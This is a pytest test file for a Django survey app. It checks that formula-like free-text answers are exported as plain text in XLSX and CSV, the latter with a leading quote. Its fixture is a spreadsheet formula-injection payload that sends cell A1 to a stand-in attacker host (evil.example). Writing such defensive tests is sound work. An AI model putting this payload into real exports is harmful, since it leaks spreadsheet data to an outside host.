"""Survey exports write a free-text answer that starts like a formula as text."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from surveys import services
from surveys.models import SurveyQuestion

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'


def answered_with(course, text: str):
    survey = services.set_up_survey(
        actor=course.rush.organiser, session=course.first, title="=1+1 Khảo sát"
    )
    given = {}
    for question in survey.questions.all():
        field = services.question_field(question)
        if question.kind == SurveyQuestion.Kind.SCALE:
            given[field] = 4
        elif question.kind == SurveyQuestion.Kind.CHOICE:
            given[field] = question.choices[0]
        else:
            given[field] = text
    services.submit_survey_response(person=course.people["manh"], survey=survey, answers=given)
    return survey


def test_a_formula_like_answer_is_a_text_cell_in_the_xlsx(client, course):
    answered_with(course, HYPERLINK)
    client.force_login(course.rush.organiser)

    answer = client.get(reverse("surveys:survey_export", args=[course.first.pk, "xlsx"]))

    book = load_workbook(io.BytesIO(answer.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    [typed] = [cell for cell in cells if cell.value == HYPERLINK]
    assert typed.data_type == "s" and typed.quotePrefix
    summary, answers = book.worksheets
    assert summary["A1"].value == "=1+1 Khảo sát"
    assert answers["A2"].value == 1 and answers["D2"].value == 4


def test_a_formula_like_answer_gets_a_leading_quote_in_the_csv(client, course):
    answered_with(course, HYPERLINK)
    client.force_login(course.rush.organiser)

    answer = client.get(reverse("surveys:survey_export", args=[course.first.pk, "csv"]))

    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    assert rows[1][0] == "1" and rows[1][-1] == "'" + HYPERLINK
